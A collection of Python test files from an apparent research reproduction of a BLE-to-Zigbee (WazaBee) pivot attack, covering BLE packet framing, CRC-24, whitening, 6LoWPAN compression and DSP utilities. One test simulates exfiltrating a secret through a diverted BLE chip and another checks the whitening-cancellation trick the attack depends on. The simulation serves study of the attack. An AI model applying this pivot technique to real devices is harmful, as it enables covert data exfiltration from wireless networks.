        parsed = ExtendedAdvertisingPdu.from_pdu(pdu.to_pdu())
        assert parsed.aux_ptr.channel == 8
        assert parsed.advertiser_address is None

    def test_paper_padding_is_16_bytes(self):
        """2 (header) + 1 + 9 (flags/AdvA/ADI) + 4 (AD framing + company id)
        = 16 — the paper's padding figure."""
        pdu = ExtendedAdvertisingPdu(
            advertiser_address=bytes(6), adi=Adi(), adv_data=b""
        )
        assert pdu.data_offset_in_pdu() + 4 == 16

    def test_tx_power_extends_header(self):
        with_power = ExtendedAdvertisingPdu(
            advertiser_address=bytes(6), adi=Adi(), tx_power=-8
        )
        parsed = ExtendedAdvertisingPdu.from_pdu(with_power.to_pdu())
        assert parsed.tx_power == -8

    def test_oversized_data_rejected(self):
        with pytest.raises(ValueError):
            ExtendedAdvertisingPdu(adv_data=b"x" * 256).to_pdu()

    def test_wrong_type_rejected(self):
        with pytest.raises(ValueError):
            ExtendedAdvertisingPdu.from_pdu(b"\x02\x01\x00")


class TestOnAirAssembly:
    def test_structure(self):
        packet = assemble_on_air_bits(b"\x02\x01\x00", channel=37)
        # preamble 8 + AA 32 + (3 PDU + 3 CRC) * 8
        assert packet.bits.size == 8 + 32 + 48
        assert packet.pdu_bit_offset == 40

    def test_le2m_longer_preamble(self):
        packet = assemble_on_air_bits(b"\x02\x01\x00", channel=8, phy=PhyMode.LE_2M)
        assert packet.pdu_bit_offset == 48

    def test_parse_roundtrip(self):
        pdu = AdvNonconnInd(bytes(6), b"data!").to_pdu()
        packet = assemble_on_air_bits(pdu, channel=12)
        body = packet.bits[packet.pdu_bit_offset :]
        parsed, crc_ok = parse_pdu_bits(body, channel=12)
        assert parsed == pdu
        assert crc_ok

    def test_parse_detects_corruption(self):
        pdu = AdvNonconnInd(bytes(6), b"data!").to_pdu()
        packet = assemble_on_air_bits(pdu, channel=12)
        body = packet.bits[packet.pdu_bit_offset :].copy()
        body[30] ^= 1
        _, crc_ok = parse_pdu_bits(body, channel=12)
        assert not crc_ok

    def test_whitening_disabled_bits_are_raw(self):
        pdu = b"\x02\x02\xaa\xbb"
        raw = assemble_on_air_bits(pdu, channel=8, whitening=False, include_crc=False)
        from repro.utils.bits import bytes_to_bits

        assert np.array_equal(raw.bits[40:], bytes_to_bits(pdu))

    def test_wrong_channel_dewhitening_garbles(self):
        pdu = AdvNonconnInd(bytes(6), b"data!").to_pdu()
        packet = assemble_on_air_bits(pdu, channel=12)
        body = packet.bits[packet.pdu_bit_offset :]
        try:
            parsed, crc_ok = parse_pdu_bits(body, channel=13)
            assert parsed != pdu or not crc_ok
        except ValueError:
            pass  # garbled length field — equally a failure to parse

    @given(st.binary(min_size=2, max_size=40))
    def test_assembly_roundtrip_property(self, payload):
        pdu = bytes([0x02, len(payload)]) + payload
        packet = assemble_on_air_bits(pdu, channel=20)
        parsed, crc_ok = parse_pdu_bits(
            packet.bits[packet.pdu_bit_offset :], channel=20
        )
        assert parsed == pdu and crc_ok
