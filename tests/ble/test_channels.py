"""Tests for the BLE channel map."""

import pytest

from repro.ble.channels import (
    ADVERTISING_CHANNELS,
    ALL_CHANNELS,
    channel_for_frequency,
    channel_frequency_hz,
    is_advertising_channel,
    whitening_init,
)


class TestFrequencies:
    def test_advertising_channels(self):
        assert channel_frequency_hz(37) == 2402e6
        assert channel_frequency_hz(38) == 2426e6
        assert channel_frequency_hz(39) == 2480e6

    def test_data_channel_grid_below_38(self):
        assert channel_frequency_hz(0) == 2404e6
        assert channel_frequency_hz(10) == 2424e6

    def test_data_channel_grid_above_38(self):
        assert channel_frequency_hz(11) == 2428e6
        assert channel_frequency_hz(36) == 2478e6

    def test_table2_ble_channels(self):
        """The BLE side of the paper's Table II."""
        expected = {3: 2410, 8: 2420, 12: 2430, 17: 2440,
                    22: 2450, 27: 2460, 32: 2470, 39: 2480}
        for ch, mhz in expected.items():
            assert channel_frequency_hz(ch) == mhz * 1e6

    def test_all_frequencies_unique(self):
        freqs = {channel_frequency_hz(ch) for ch in ALL_CHANNELS}
        assert len(freqs) == 40

    def test_invalid_channel(self):
        with pytest.raises(ValueError):
            channel_frequency_hz(40)
        with pytest.raises(ValueError):
            channel_frequency_hz(-1)

    def test_inverse_mapping(self):
        for ch in ALL_CHANNELS:
            assert channel_for_frequency(channel_frequency_hz(ch)) == ch
        assert channel_for_frequency(2405e6) is None


class TestHelpers:
    def test_is_advertising_channel(self):
        for ch in ADVERTISING_CHANNELS:
            assert is_advertising_channel(ch)
        assert not is_advertising_channel(8)

    def test_whitening_init(self):
        assert whitening_init(0) == 0x40
        assert whitening_init(8) == 0x48
        assert whitening_init(39) == 0x40 | 39

    def test_whitening_init_validation(self):
        with pytest.raises(ValueError):
            whitening_init(40)
