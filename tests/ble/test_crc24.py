"""Tests for the BLE CRC-24."""

import numpy as np
import pytest
from hypothesis import given, strategies as st

from repro.ble.crc import ADVERTISING_CRC_INIT, BLE_CRC24_POLY, ble_crc24, ble_crc24_bits


class TestCrc24:
    def test_polynomial_terms(self):
        # x^24 + x^10 + x^9 + x^6 + x^4 + x^3 + x + 1
        expected = (1 << 10) | (1 << 9) | (1 << 6) | (1 << 4) | (1 << 3) | (1 << 1) | 1
        assert BLE_CRC24_POLY == expected

    def test_empty_pdu_returns_init(self):
        assert ble_crc24(b"") == ADVERTISING_CRC_INIT

    def test_fits_24_bits(self):
        assert 0 <= ble_crc24(b"\xff" * 40) < (1 << 24)

    def test_custom_init(self):
        assert ble_crc24(b"ab", init=0x123456) != ble_crc24(b"ab")

    def test_bits_msb_first(self):
        value = ble_crc24(b"hello")
        bits = ble_crc24_bits(b"hello")
        assert bits.size == 24
        assert int("".join(map(str, bits)), 2) == value

    @given(st.binary(min_size=1, max_size=64))
    def test_single_bitflip_detected(self, pdu):
        clean = ble_crc24(pdu)
        corrupted = bytearray(pdu)
        corrupted[len(pdu) // 2] ^= 0x10
        assert ble_crc24(bytes(corrupted)) != clean

    @given(st.binary(max_size=40))
    def test_reflected_form_equivalence(self, pdu):
        """An independent right-shifting (reflected) implementation — the
        form used by real BLE firmware — must agree bit-for-bit."""
        state = int(f"{ADVERTISING_CRC_INIT:024b}"[::-1], 2)
        lfsr_mask = 0x5A6000  # the 24-bit bit-reversal of polynomial 0x65B
        for byte in pdu:
            current = byte
            for _ in range(8):
                next_bit = (state ^ current) & 1
                current >>= 1
                state >>= 1
                if next_bit:
                    state |= 1 << 23
                    state ^= lfsr_mask
        reflected = int(f"{state:024b}"[::-1], 2)
        assert reflected == ble_crc24(bytes(pdu))
