"""Tests for BLE data whitening."""

import numpy as np
import pytest
from hypothesis import given, strategies as st

from repro.ble.whitening import whiten, whiten_bytes, whitening_sequence


def spec_diagram_sequence(channel: int, count: int) -> np.ndarray:
    """Independent implementation straight from the spec's register diagram
    (positions 0..6; output at position 6; x^4 tap)."""
    positions = [1] + [(channel >> (5 - i)) & 1 for i in range(6)]
    out = np.empty(count, dtype=np.uint8)
    for i in range(count):
        bit = positions[6]
        out[i] = bit
        new = [0] * 7
        new[0] = bit
        for j in range(1, 7):
            new[j] = positions[j - 1]
        new[4] ^= bit
        positions = new
    return out


class TestSequence:
    @pytest.mark.parametrize("channel", [0, 8, 17, 37, 39])
    def test_matches_spec_diagram(self, channel):
        assert np.array_equal(
            whitening_sequence(channel, 200), spec_diagram_sequence(channel, 200)
        )

    def test_period_127(self):
        seq = whitening_sequence(8, 254)
        assert np.array_equal(seq[:127], seq[127:])

    def test_channels_differ(self):
        assert not np.array_equal(
            whitening_sequence(8, 64), whitening_sequence(9, 64)
        )

    def test_first_bit_is_register_output(self):
        # Channel 0 seed: position0=1, channel bits all 0 -> first outputs
        # are the zero channel bits until the 1 reaches position 6.
        seq = whitening_sequence(0, 7)
        assert seq.tolist() == [0, 0, 0, 0, 0, 0, 1]


class TestWhiten:
    @given(
        st.lists(st.integers(0, 1), min_size=1, max_size=256),
        st.integers(0, 39),
    )
    def test_involution(self, bits, channel):
        arr = np.array(bits, dtype=np.uint8)
        assert np.array_equal(whiten(whiten(arr, channel), channel), arr)

    def test_whiten_changes_bits(self):
        arr = np.zeros(64, dtype=np.uint8)
        assert whiten(arr, 8).any()

    def test_whiten_bytes_roundtrip(self):
        data = bytes(range(32))
        assert whiten_bytes(whiten_bytes(data, 3), 3) == data

    def test_scenario_a_pre_inversion(self):
        """De-whitening applied in advance cancels the radio's whitener —
        the §IV-D trick Scenario A depends on."""
        payload = np.random.default_rng(0).integers(0, 2, 500).astype(np.uint8)
        pre = whiten(payload, 8)
        on_air = whiten(pre, 8)
        assert np.array_equal(on_air, payload)
