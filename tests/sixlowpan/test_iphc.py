"""Tests for LOWPAN_IPHC compression."""

import pytest
from hypothesis import given, strategies as st

from repro.sixlowpan.iphc import (
    compress_datagram,
    decompress_datagram,
    link_iid,
)
from repro.sixlowpan.ipv6 import Ipv6Header, UdpDatagram, link_local_address

PAN = 0x1234
SRC_SHORT, DST_SHORT = 0x0010, 0x0020
SRC = link_local_address(PAN, SRC_SHORT)
DST = link_local_address(PAN, DST_SHORT)
GLOBAL = bytes.fromhex("20010db8") + bytes(10) + b"\x00\x01"


def udp_bytes(header, sport=0xF0B1, dport=0xF0B2, payload=b"x"):
    return UdpDatagram(sport, dport, payload).to_bytes(header)


class TestAddressModes:
    def test_mode3_fully_elided(self):
        header = Ipv6Header(source=SRC, destination=DST)
        payload = udp_bytes(header)
        compressed = compress_datagram(
            header, payload,
            source_link_iid=link_iid(PAN, SRC_SHORT),
            destination_link_iid=link_iid(PAN, DST_SHORT),
        )
        # 2 IPHC bytes + 2 NHC bytes + 2 checksum + 1 payload: tiny.
        assert len(compressed) == 7
        back_header, back_payload = decompress_datagram(
            compressed,
            source_link_iid=link_iid(PAN, SRC_SHORT),
            destination_link_iid=link_iid(PAN, DST_SHORT),
        )
        assert back_header.source == SRC
        assert back_header.destination == DST
        assert back_payload == payload

    def test_mode2_16bit_iid(self):
        header = Ipv6Header(source=SRC, destination=DST)
        payload = udp_bytes(header)
        compressed = compress_datagram(header, payload)
        back, _ = decompress_datagram(compressed)
        assert back.source == SRC and back.destination == DST

    def test_mode1_64bit_iid(self):
        other = bytes.fromhex("fe80") + bytes(6) + bytes.fromhex("0123456789abcdef")
        header = Ipv6Header(source=other, destination=DST)
        payload = udp_bytes(header)
        back, _ = decompress_datagram(compress_datagram(header, payload))
        assert back.source == other

    def test_mode0_global_address(self):
        header = Ipv6Header(source=GLOBAL, destination=DST)
        payload = udp_bytes(header)
        back, _ = decompress_datagram(compress_datagram(header, payload))
        assert back.source == GLOBAL

    def test_multicast_rejected(self):
        mc = b"\xff\x02" + bytes(13) + b"\x01"
        header = Ipv6Header(source=SRC, destination=mc)
        with pytest.raises(ValueError):
            compress_datagram(header, udp_bytes(header))


class TestFields:
    def test_hop_limit_codepoints(self):
        for hop in (1, 64, 255, 17):
            header = Ipv6Header(source=SRC, destination=DST, hop_limit=hop)
            payload = udp_bytes(header)
            back, _ = decompress_datagram(compress_datagram(header, payload))
            assert back.hop_limit == hop

    def test_traffic_class_inline(self):
        header = Ipv6Header(
            source=SRC, destination=DST, traffic_class=42, flow_label=0x0BEEF
        )
        payload = udp_bytes(header)
        back, _ = decompress_datagram(compress_datagram(header, payload))
        assert back.traffic_class == 42
        assert back.flow_label == 0x0BEEF

    def test_non_udp_next_header_inline(self):
        header = Ipv6Header(source=SRC, destination=DST, next_header=58)  # ICMPv6
        payload = b"\x80\x00\x00\x00"
        compressed = compress_datagram(header, payload)
        back, back_payload = decompress_datagram(compressed)
        assert back.next_header == 58
        assert back_payload == payload

    def test_not_iphc_rejected(self):
        with pytest.raises(ValueError):
            decompress_datagram(b"\x41\x00")


class TestUdpNhc:
    @pytest.mark.parametrize(
        "sport,dport",
        [
            (0xF0B1, 0xF0B5),  # both 4-bit compressible
            (1234, 0xF042),    # destination 8-bit
            (0xF042, 1234),    # source 8-bit
            (5683, 5683),      # both inline
        ],
    )
    def test_port_forms_roundtrip(self, sport, dport):
        header = Ipv6Header(source=SRC, destination=DST)
        payload = udp_bytes(header, sport, dport, b"data")
        back_header, back_payload = decompress_datagram(
            compress_datagram(header, payload)
        )
        udp, ok = UdpDatagram.from_bytes(back_payload, back_header)
        assert (udp.source_port, udp.destination_port) == (sport, dport)
        assert ok

    def test_compression_saves_bytes(self):
        header = Ipv6Header(source=SRC, destination=DST)
        payload = udp_bytes(header, payload=b"0123456789")
        uncompressed = 40 + len(payload)
        compressed = compress_datagram(
            header, payload,
            source_link_iid=link_iid(PAN, SRC_SHORT),
            destination_link_iid=link_iid(PAN, DST_SHORT),
        )
        assert len(compressed) < uncompressed / 2

    @given(st.binary(max_size=64))
    def test_payload_roundtrip_property(self, data):
        header = Ipv6Header(source=SRC, destination=DST)
        payload = udp_bytes(header, payload=data)
        back_header, back_payload = decompress_datagram(
            compress_datagram(header, payload)
        )
        udp, ok = UdpDatagram.from_bytes(back_payload, back_header)
        assert udp.payload == data and ok
