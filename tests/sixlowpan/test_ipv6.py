"""Tests for the IPv6/UDP representations."""

import pytest
from hypothesis import given, strategies as st

from repro.sixlowpan.ipv6 import (
    Ipv6Header,
    UdpDatagram,
    link_local_address,
    udp_checksum,
)

SRC = link_local_address(0x1234, 0x0010)
DST = link_local_address(0x1234, 0x0020)


class TestLinkLocal:
    def test_structure(self):
        addr = link_local_address(0x1234, 0xABCD)
        assert addr[:8] == bytes.fromhex("fe80") + bytes(6)
        assert addr[10:14] == bytes.fromhex("00fffe00")
        assert addr[14:] == b"\xab\xcd"

    def test_universal_local_bit_cleared(self):
        addr = link_local_address(0xFFFF, 0)
        assert addr[8] & 0x02 == 0

    def test_validation(self):
        with pytest.raises(ValueError):
            link_local_address(0x10000, 0)


class TestIpv6Header:
    def test_roundtrip(self):
        header = Ipv6Header(
            source=SRC, destination=DST, payload_length=42,
            hop_limit=7, traffic_class=3, flow_label=0x12345,
        )
        assert Ipv6Header.from_bytes(header.to_bytes()) == header

    def test_length(self):
        assert len(Ipv6Header(source=SRC, destination=DST).to_bytes()) == 40

    def test_version_checked(self):
        raw = bytearray(Ipv6Header(source=SRC, destination=DST).to_bytes())
        raw[0] = 0x45  # IPv4-ish
        with pytest.raises(ValueError):
            Ipv6Header.from_bytes(bytes(raw))

    def test_validation(self):
        with pytest.raises(ValueError):
            Ipv6Header(source=b"short", destination=DST)
        with pytest.raises(ValueError):
            Ipv6Header(source=SRC, destination=DST, flow_label=1 << 20)

    def test_pretty(self):
        header = Ipv6Header(source=SRC, destination=DST)
        assert header.pretty_source().startswith("fe80::")


class TestUdp:
    def test_roundtrip_with_checksum(self):
        header = Ipv6Header(source=SRC, destination=DST)
        udp = UdpDatagram(1000, 2000, b"payload!")
        raw = udp.to_bytes(header)
        parsed, ok = UdpDatagram.from_bytes(raw, header)
        assert parsed == udp
        assert ok

    def test_checksum_detects_corruption(self):
        header = Ipv6Header(source=SRC, destination=DST)
        raw = bytearray(UdpDatagram(1, 2, b"data").to_bytes(header))
        raw[-1] ^= 0xFF
        _, ok = UdpDatagram.from_bytes(bytes(raw), header)
        assert not ok

    def test_checksum_binds_addresses(self):
        # Note: a plain src/dst *swap* is invisible to the one's-complement
        # sum (addition commutes), so use a genuinely different address.
        header = Ipv6Header(source=SRC, destination=DST)
        other = Ipv6Header(
            source=SRC, destination=link_local_address(0x1234, 0x0099)
        )
        raw = UdpDatagram(1, 2, b"data").to_bytes(header)
        _, ok = UdpDatagram.from_bytes(raw, other)
        assert not ok

    def test_checksum_never_zero(self):
        header = Ipv6Header(source=SRC, destination=DST)
        assert udp_checksum(header, bytes(10)) != 0

    def test_bad_length_field(self):
        with pytest.raises(ValueError):
            UdpDatagram.from_bytes(b"\x00\x01\x00\x02\x00\x03\x00\x00")

    def test_port_validation(self):
        with pytest.raises(ValueError):
            UdpDatagram(70000, 1, b"")

    @given(st.binary(max_size=128))
    def test_roundtrip_property(self, payload):
        header = Ipv6Header(source=SRC, destination=DST)
        udp = UdpDatagram(5683, 5684, payload)
        parsed, ok = UdpDatagram.from_bytes(udp.to_bytes(header), header)
        assert parsed.payload == payload and ok
