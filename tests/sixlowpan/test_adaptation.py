"""Tests for the 6LoWPAN adaptation layer over real radios."""

import numpy as np
import pytest

from repro.chips.rzusbstick import Dot15d4Radio
from repro.dot15d4.frames import Address
from repro.dot15d4.mac import MacService
from repro.sixlowpan import SixLowpanAdaptation

PAN = 0x1234
A = Address(pan_id=PAN, address=0x0010)
B = Address(pan_id=PAN, address=0x0020)


@pytest.fixture()
def pair(quiet_medium):
    radio_a = Dot15d4Radio(
        quiet_medium, "a", (0, 0), rng=np.random.default_rng(1)
    )
    radio_b = Dot15d4Radio(
        quiet_medium, "b", (3, 0), rng=np.random.default_rng(2)
    )
    radio_a.set_channel(14)
    radio_b.set_channel(14)
    mac_a = MacService(radio_a, A)
    mac_b = MacService(radio_b, B)
    node_a = SixLowpanAdaptation(mac_a)
    node_b = SixLowpanAdaptation(mac_b)
    mac_a.start()
    mac_b.start()
    return node_a, node_b, quiet_medium.scheduler


class TestUdpDelivery:
    def test_short_datagram(self, pair):
        a, b, sched = pair
        got = []
        b.on_udp(got.append)
        a.send_udp(0x0020, 0xF0B1, 0xF0B2, b"hello")
        sched.run(0.05)
        assert len(got) == 1
        received = got[0]
        assert received.datagram.payload == b"hello"
        assert received.checksum_ok
        assert received.link_source == 0x0010
        assert received.header.pretty_source().startswith("fe80::")

    def test_fragmented_datagram(self, pair):
        a, b, sched = pair
        got = []
        b.on_udp(got.append)
        payload = bytes(range(250))
        sequences = a.send_udp(0x0020, 5683, 5683, payload)
        assert len(sequences) > 1  # fragmentation happened
        sched.run(0.2)
        assert len(got) == 1
        assert got[0].datagram.payload == payload
        assert b.reassembler.completed == 1

    def test_bidirectional(self, pair):
        a, b, sched = pair
        got_a, got_b = [], []
        a.on_udp(got_a.append)
        b.on_udp(got_b.append)
        a.send_udp(0x0020, 1111, 2222, b"ping")
        sched.run(0.05)
        b.send_udp(0x0010, 2222, 1111, b"pong")
        sched.run(0.05)
        assert got_b[0].datagram.payload == b"ping"
        assert got_a[0].datagram.payload == b"pong"

    def test_addresses_derived_from_mac(self, pair):
        a, b, _ = pair
        assert a.address[-2:] == b"\x00\x10"
        assert a.neighbour_address(0x0020) == b.address

    def test_counters(self, pair):
        a, b, sched = pair
        b.on_udp(lambda r: None)
        a.send_udp(0x0020, 1, 2, b"x")
        sched.run(0.05)
        assert a.sent_datagrams == 1
        assert b.received_datagrams == 1
        assert b.decode_failures == 0

    def test_garbage_mac_payload_counted(self, pair):
        from repro.dot15d4.frames import build_data

        a, b, sched = pair
        frame = build_data(A, B, b"\x61\x00garbage", sequence_number=50)
        a.mac.send_frame(frame)
        sched.run(0.05)
        assert b.decode_failures == 1

    def test_over_wazabee_pivot(self, quiet_medium, scheduler):
        """The exfiltration path: the UDP sender's MAC frames are injected
        through a diverted BLE chip instead of a native radio."""
        from repro.chips import Nrf52832
        from repro.core.firmware import WazaBeeFirmware
        from repro.dot15d4.frames import build_data
        from repro.sixlowpan.fragmentation import fragment_datagram
        from repro.sixlowpan.iphc import compress_datagram, link_iid
        from repro.sixlowpan.ipv6 import Ipv6Header, UdpDatagram, link_local_address

        radio_b = Dot15d4Radio(
            quiet_medium, "sink", (3, 0), rng=np.random.default_rng(2)
        )
        radio_b.set_channel(14)
        mac_b = MacService(radio_b, B)
        sink = SixLowpanAdaptation(mac_b)
        mac_b.start()
        got = []
        sink.on_udp(got.append)

        chip = Nrf52832(quiet_medium, position=(0, 0), rng=np.random.default_rng(3))
        firmware = WazaBeeFirmware(chip, scheduler)
        header = Ipv6Header(
            source=link_local_address(PAN, 0x0010),
            destination=link_local_address(PAN, 0x0020),
        )
        udp = UdpDatagram(0xF0B1, 0xF0B2, b"exfiltrated-secret")
        compressed = compress_datagram(
            header,
            udp.to_bytes(header),
            source_link_iid=link_iid(PAN, 0x0010),
            destination_link_iid=link_iid(PAN, 0x0020),
        )
        for fragment in fragment_datagram(compressed, tag=1):
            frame = build_data(A, B, fragment, sequence_number=9, ack_request=False)
            firmware.send_frame(frame, channel=14)
        scheduler.run(0.05)
        assert len(got) == 1
        assert got[0].datagram.payload == b"exfiltrated-secret"
        assert got[0].checksum_ok
