"""Tests for RFC 4944 fragmentation/reassembly."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.sixlowpan.fragmentation import (
    FRAG1_DISPATCH,
    FRAGN_DISPATCH,
    Reassembler,
    fragment_datagram,
)


class TestFragmentation:
    def test_small_datagram_unfragmented(self):
        fragments = fragment_datagram(b"short", tag=1)
        assert fragments == [b"short"]

    def test_large_datagram_fragments(self):
        datagram = bytes(range(256))
        fragments = fragment_datagram(datagram, tag=7, max_fragment_payload=64)
        assert len(fragments) > 2
        assert fragments[0][0] & 0b11111000 == FRAG1_DISPATCH
        for fragment in fragments[1:]:
            assert fragment[0] & 0b11111000 == FRAGN_DISPATCH

    def test_fragment_sizes_respect_budget(self):
        fragments = fragment_datagram(bytes(500), tag=1, max_fragment_payload=80)
        assert all(len(f) <= 80 for f in fragments)

    def test_offsets_are_multiples_of_eight(self):
        fragments = fragment_datagram(bytes(300), tag=1, max_fragment_payload=64)
        for fragment in fragments[1:]:
            assert fragment[4] * 8 % 8 == 0

    def test_validation(self):
        with pytest.raises(ValueError):
            fragment_datagram(bytes(3000), tag=1)
        with pytest.raises(ValueError):
            fragment_datagram(b"x", tag=1 << 16)
        with pytest.raises(ValueError):
            fragment_datagram(bytes(100), tag=1, max_fragment_payload=8)


class TestReassembly:
    def test_roundtrip(self):
        datagram = bytes(range(200))
        fragments = fragment_datagram(datagram, tag=3, max_fragment_payload=64)
        reassembler = Reassembler()
        results = [reassembler.accept(0x10, f) for f in fragments]
        assert results[-1] == datagram
        assert all(r is None for r in results[:-1])
        assert reassembler.completed == 1
        assert reassembler.pending == 0

    def test_out_of_order(self):
        datagram = bytes(range(200))
        fragments = fragment_datagram(datagram, tag=3, max_fragment_payload=64)
        reassembler = Reassembler()
        results = [
            reassembler.accept(0x10, f)
            for f in [fragments[-1], *fragments[:-1]]
        ]
        assert datagram in results

    def test_interleaved_senders(self):
        a = bytes([1]) * 150
        b = bytes([2]) * 150
        fa = fragment_datagram(a, tag=1, max_fragment_payload=64)
        fb = fragment_datagram(b, tag=1, max_fragment_payload=64)
        reassembler = Reassembler()
        outputs = []
        for x, y in zip(fa, fb):
            outputs.append(reassembler.accept(0x10, x))
            outputs.append(reassembler.accept(0x20, y))
        assert a in outputs and b in outputs

    def test_missing_fragment_stays_pending(self):
        fragments = fragment_datagram(bytes(300), tag=9, max_fragment_payload=64)
        reassembler = Reassembler()
        for fragment in fragments[:-1]:
            assert reassembler.accept(0x10, fragment) is None
        assert reassembler.pending == 1
        assert reassembler.completed == 0

    def test_passthrough_for_plain_payloads(self):
        reassembler = Reassembler()
        assert reassembler.accept(0x10, b"\x60plain") == b"\x60plain"

    def test_truncated_header_dropped(self):
        reassembler = Reassembler()
        assert reassembler.accept(0x10, bytes([FRAG1_DISPATCH, 1])) is None
        assert reassembler.dropped == 1

    def test_empty_payload(self):
        assert Reassembler().accept(0x10, b"") is None

    @settings(max_examples=20, deadline=None)
    @given(st.binary(max_size=999), st.integers(0, 0xFFFF))
    def test_roundtrip_property(self, body, tag):
        # Real 6LoWPAN datagrams always begin with a valid dispatch byte
        # (IPHC: 011xxxxx) — without one, a raw payload whose first byte
        # collides with the FRAG dispatch space would be ambiguous.
        datagram = b"\x78" + body
        fragments = fragment_datagram(datagram, tag=tag, max_fragment_payload=72)
        reassembler = Reassembler()
        result = None
        for fragment in fragments:
            result = reassembler.accept(0x33, fragment) or result
        assert result == datagram
