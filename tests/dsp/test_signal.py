"""Tests for the IQSignal container."""

import numpy as np
import pytest

from repro.dsp.signal import IQSignal


def tone(freq, fs=16e6, n=1600, center=0.0):
    t = np.arange(n) / fs
    return IQSignal(np.exp(2j * np.pi * freq * t), fs, center)


class TestBasics:
    def test_length_and_duration(self):
        sig = IQSignal(np.zeros(160), 16e6)
        assert len(sig) == 160
        assert sig.duration == pytest.approx(1e-5)

    def test_power_of_unit_tone(self):
        assert tone(1e6).power() == pytest.approx(1.0)

    def test_energy(self):
        sig = IQSignal(np.ones(10), 1.0)
        assert sig.energy() == pytest.approx(10.0)

    def test_power_empty(self):
        assert IQSignal(np.zeros(0), 1.0).power() == 0.0

    def test_rejects_bad_sample_rate(self):
        with pytest.raises(ValueError):
            IQSignal(np.zeros(4), 0.0)

    def test_rejects_2d(self):
        with pytest.raises(ValueError):
            IQSignal(np.zeros((2, 2)), 1.0)


class TestTransforms:
    def test_scaled(self):
        sig = tone(1e6).scaled(0.5)
        assert sig.power() == pytest.approx(0.25)

    def test_delayed_prepends_zeros(self):
        sig = IQSignal(np.ones(4), 1.0).delayed(2)
        assert len(sig) == 6
        assert np.all(sig.samples[:2] == 0)

    def test_delayed_negative_rejected(self):
        with pytest.raises(ValueError):
            IQSignal(np.ones(4), 1.0).delayed(-1)

    def test_padded_appends_zeros(self):
        sig = IQSignal(np.ones(4), 1.0).padded(3)
        assert len(sig) == 7
        assert np.all(sig.samples[-3:] == 0)

    def test_sliced(self):
        sig = IQSignal(np.arange(10, dtype=complex), 1.0)
        assert np.array_equal(sig.sliced(2, 5).samples, np.arange(2, 5))

    def test_silence(self):
        sig = IQSignal.silence(8, 16e6, 2.44e9)
        assert sig.power() == 0.0
        assert sig.center_frequency == 2.44e9


class TestMixing:
    def test_mixed_to_moves_tone(self):
        """A tone at RF 2440.5 MHz seen from 2440 -> baseband +0.5 MHz;
        retuned to 2441 -> baseband -0.5 MHz."""
        sig = tone(0.5e6, center=2440e6)
        moved = sig.mixed_to(2441e6)
        freq = np.median(moved.instantaneous_frequency())
        assert freq == pytest.approx(-0.5e6, rel=1e-3)

    def test_mixed_to_same_center_is_copy(self):
        sig = tone(1e6, center=2440e6)
        same = sig.mixed_to(2440e6)
        assert np.array_equal(same.samples, sig.samples)
        assert same.samples is not sig.samples

    def test_instantaneous_frequency_of_tone(self):
        sig = tone(0.25e6)
        freqs = sig.instantaneous_frequency()
        assert np.allclose(freqs, 0.25e6, rtol=1e-6)

    def test_instantaneous_frequency_short_signal(self):
        assert IQSignal(np.ones(1), 1.0).instantaneous_frequency().size == 0


class TestAdd:
    def test_add_superposes_and_pads(self):
        a = IQSignal(np.ones(4), 1.0)
        b = IQSignal(np.ones(2), 1.0)
        out = a.add(b)
        assert np.array_equal(out.samples.real, [2, 2, 1, 1])

    def test_add_rejects_rate_mismatch(self):
        with pytest.raises(ValueError):
            IQSignal(np.ones(2), 1.0).add(IQSignal(np.ones(2), 2.0))

    def test_add_rejects_center_mismatch(self):
        a = IQSignal(np.ones(2), 1.0, 2440e6)
        b = IQSignal(np.ones(2), 1.0, 2441e6)
        with pytest.raises(ValueError):
            a.add(b)
