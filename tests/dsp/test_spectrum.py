"""Tests for PSD estimation and band power."""

import numpy as np
import pytest

from repro.dsp.signal import IQSignal
from repro.dsp.spectrum import band_power, channel_powers, power_spectral_density


def tone_at(offset_hz, center=2440e6, n=8192, fs=16e6, amplitude=1.0):
    t = np.arange(n) / fs
    return IQSignal(amplitude * np.exp(2j * np.pi * offset_hz * t), fs, center)


class TestPsd:
    def test_peak_at_tone_frequency(self):
        sig = tone_at(2e6)
        freqs, psd = power_spectral_density(sig, nperseg=1024)
        peak = freqs[np.argmax(psd)]
        assert peak == pytest.approx(2442e6, abs=0.1e6)

    def test_frequencies_sorted(self):
        freqs, _ = power_spectral_density(tone_at(0), nperseg=256)
        assert np.all(np.diff(freqs) > 0)

    def test_short_capture_rejected(self):
        with pytest.raises(ValueError):
            power_spectral_density(IQSignal(np.ones(4), 16e6))


class TestBandPower:
    def test_tone_captured_in_band(self):
        sig = tone_at(1e6)  # at RF 2441 MHz
        inside = band_power(sig, 2441e6, 2e6, nperseg=1024)
        outside = band_power(sig, 2446e6, 2e6, nperseg=1024)
        assert inside > 100 * max(outside, 1e-12)

    def test_power_scales_with_amplitude(self):
        weak = band_power(tone_at(1e6, amplitude=0.1), 2441e6, 2e6, nperseg=1024)
        strong = band_power(tone_at(1e6, amplitude=1.0), 2441e6, 2e6, nperseg=1024)
        assert strong / weak == pytest.approx(100.0, rel=0.1)

    def test_no_overlap_returns_zero(self):
        sig = tone_at(0)
        assert band_power(sig, 2.5e9, 1e6) == 0.0


class TestChannelPowers:
    def test_vectorised_matches_scalar(self):
        sig = tone_at(1e6)
        centers = [2439e6, 2441e6, 2443e6]
        vec = channel_powers(sig, centers, 2e6, nperseg=1024)
        for i, c in enumerate(centers):
            assert vec[i] == pytest.approx(
                band_power(sig, c, 2e6, nperseg=1024), rel=1e-9
            )
        assert np.argmax(vec) == 1
