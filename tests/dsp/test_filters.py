"""Tests for pulse shapes and filters."""

import numpy as np
import pytest

from repro.dsp.filters import (
    apply_filter,
    fir_lowpass,
    gaussian_pulse,
    half_sine_pulse,
    rectangular_pulse,
)


class TestGaussianPulse:
    def test_area_normalisation(self):
        """The pulse integral must equal one symbol period so the MSK
        per-symbol phase advance is preserved."""
        for bt in (0.3, 0.5, 1.0):
            pulse = gaussian_pulse(bt, samples_per_symbol=8, span_symbols=3)
            assert pulse.sum() == pytest.approx(8.0)

    def test_symmetry(self):
        pulse = gaussian_pulse(0.5, 8, 3)
        assert np.allclose(pulse, pulse[::-1])

    def test_narrower_bt_wider_pulse(self):
        """Smaller BT = more smearing = lower peak."""
        low = gaussian_pulse(0.3, 8, 5)
        high = gaussian_pulse(1.0, 8, 5)
        assert low.max() < high.max()

    def test_length(self):
        assert gaussian_pulse(0.5, 8, 3).size == 24

    def test_validation(self):
        with pytest.raises(ValueError):
            gaussian_pulse(0.0, 8)
        with pytest.raises(ValueError):
            gaussian_pulse(0.5, 0)
